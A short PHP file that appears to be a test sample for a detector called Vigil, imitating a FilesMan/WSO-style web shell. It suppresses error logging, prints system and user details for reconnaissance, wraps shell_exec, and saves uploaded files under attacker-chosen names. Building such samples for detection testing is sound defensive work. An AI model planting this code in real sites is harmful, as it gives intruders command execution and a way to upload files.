<?php
// test sample written for Vigil: the traits of a FilesMan-style kit
$default_action = 'FilesMan';
@ini_set('error_log', NULL);
function wsoHeader() {
    echo 'Uname: ' . php_uname() . '<br>';
    $u = posix_getpwuid(posix_geteuid());
    echo 'User: ' . $u['name'] . ' Safe mode: ' . (ini_get('safe_mode') ? 'ON' : 'OFF');
    echo 'Disabled: ' . ini_get('disable_functions');
}
function wsoEx($in) { return shell_exec($in); }
if (!empty($_FILES['f'])) move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);
